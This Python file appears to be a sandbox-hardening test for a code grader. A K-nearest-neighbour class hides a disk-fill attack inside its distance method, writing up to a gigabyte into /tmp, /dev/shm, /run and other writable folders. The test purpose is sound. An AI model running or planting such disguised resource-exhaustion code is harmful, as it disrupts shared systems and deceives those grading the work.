"""Fill the disk: one file up to a gigabyte, in every folder that can be written."""

import os

LAYER = "sandbox"
EXPECT = {"score": 0, "statuses": ["errored", "failed", "memory", "timeout", "unwritten"]}
CITE = "disk fill, quota, inode flood"
UNPROTECTED = "disk"

FOLDERS = ["@CANARY@", ".", "/tmp", "/var/tmp", "/dev/shm", "/run"]


class KNearestNeighbor:
    def train(self, X, y):
        self.X_train, self.y_train = X, y

    def compute_distances_two_loops(self, X):
        written, block = {}, b"x" * (1 << 20)
        for folder in FOLDERS:
            try:
                with open(os.path.join(folder, "disk_fill"), "wb", buffering=0) as file:
                    for count in range(1000):
                        file.write(block)
                        written[folder] = count + 1
                if written.get(folder) == 1000:
                    break
            except OSError as error:
                written.setdefault(folder, str(error))
        raise RuntimeError(f"megabytes written: {written}")
